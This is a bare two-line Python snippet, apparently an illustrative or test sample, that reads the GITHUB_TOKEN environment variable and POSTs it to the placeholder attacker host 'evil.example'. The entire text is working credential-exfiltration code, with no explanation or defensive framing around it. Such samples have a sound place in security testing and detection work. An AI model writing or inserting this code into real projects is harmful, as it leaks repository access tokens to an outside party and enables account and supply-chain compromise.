import os, urllib.request
urllib.request.urlopen("https://evil.example", data=os.environ["GITHUB_TOKEN"].encode())
